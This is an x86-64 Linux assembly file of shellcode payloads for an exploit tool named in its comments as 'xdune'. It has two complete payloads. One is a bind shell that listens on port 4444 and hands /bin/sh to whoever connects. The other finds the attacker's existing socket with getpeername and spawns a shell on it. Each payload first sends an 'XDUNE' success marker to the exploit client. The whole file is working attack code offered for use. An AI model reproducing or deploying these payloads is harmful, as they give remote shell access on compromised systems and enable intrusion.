/* What xdune makes a taken-over process run, x86-64 Linux, position independent. Each begins by writing "XDUNE" to
 * descriptors 3 to 9, the mark by which the client knows that this try was the one, and waits for a byte from who got it:
 * whatever ends the connection for what comes next cannot overtake the mark. */
    .section .rodata
    .intel_syntax noprefix
    .globl payload_bind, payload_bind_end, payload_findsock, payload_findsock_end

    .macro announce
    mov ebx, 3
1:  lea rsi, [rip + mark\@]
    mov edi, ebx
    mov edx, 5
    mov eax, 1              /* write */
    syscall
    cmp eax, 5
    jne 2f
    mov edi, ebx
    mov rsi, rsp
    mov edx, 1
    xor eax, eax            /* read */
    syscall
2:  inc ebx
    cmp ebx, 10
    jne 1b
    jmp 3f
mark\@: .ascii "XDUNE"
3:
    .endm

    .macro run_shell
    lea rdi, [rip + shell\@]
    push 0
    push rdi
    mov rsi, rsp
    xor edx, edx
    mov eax, 59             /* execve */
    syscall
    xor edi, edi
    mov eax, 231            /* exit_group: the shell was refused */
    syscall
shell\@: .asciz "/bin/sh"
    .endm

/* (a) A listener on port 4444, and a shell for who comes. */
payload_bind:
    sub rsp, 4096
    announce
    mov edi, 2
    mov esi, 1
    xor edx, edx
    mov eax, 41             /* socket */
    syscall
    mov r12d, eax
    push 0
    push 0x5c110002         /* AF_INET, port 4444, any address */
    mov edi, r12d
    mov rsi, rsp
    mov edx, 16
    mov eax, 49             /* bind */
    syscall
    mov edi, r12d
    mov esi, 1
    mov eax, 50             /* listen */
    syscall
    mov edi, r12d
    xor esi, esi
    xor edx, edx
    mov eax, 43             /* accept; at once an error where listen was refused */
    syscall
    mov r12d, eax
    xor ebx, ebx
3:  mov edi, r12d
    mov esi, ebx
    mov eax, 33             /* dup2 */
    syscall
    inc ebx
    cmp ebx, 3
    jne 3b
    run_shell
payload_bind_end:

/* (b) A shell on the very connection: the descriptor from 9 down to 3 that has a peer. */
payload_findsock:
    sub rsp, 4096
    announce
    mov ebx, 9
4:  push 128
    lea rdx, [rsp]
    lea rsi, [rsp - 512]
    mov edi, ebx
    mov eax, 52             /* getpeername */
    syscall
    pop rdx
    test eax, eax
    jz 5f
    dec ebx
    cmp ebx, 2
    jne 4b
5:  mov r12d, ebx
    xor ebx, ebx
6:  mov edi, r12d
    mov esi, ebx
    mov eax, 33             /* dup2 */
    syscall
    inc ebx
    cmp ebx, 3
    jne 6b
    run_shell
payload_findsock_end:
    .section .note.GNU-stack,"",@progbits
